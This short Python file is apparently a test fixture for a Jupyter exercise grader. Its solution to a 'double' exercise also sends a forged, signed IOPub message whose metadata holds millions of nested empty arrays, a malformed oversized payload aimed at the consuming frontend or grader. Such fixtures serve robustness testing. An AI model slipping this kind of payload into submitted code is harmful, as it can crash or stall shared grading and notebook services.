# exercise: double
import json

kernel = get_ipython().kernel


def send(kind, content, metadata=None, count=1):
    for _ in range(count):
        kernel.session.send(
            kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"), ident=b"x", metadata=metadata
        )


def send_raw(parts, count=1):
    parts = [part if isinstance(part, bytes) else json.dumps(part, default=str).encode() for part in parts]
    for _ in range(count):
        kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", kernel.session.sign(parts[:4]), *parts])


def double(x):
    parent = kernel.get_parent("shell")["header"]
    header = {"msg_id": "1", "msg_type": "display_data", "version": "5.3"}
    send_raw([header, parent, {}, b'{"data": {}, "metadata": [' + b"[]," * 2_500_000 + b"[]]}"])
    return 2 * x
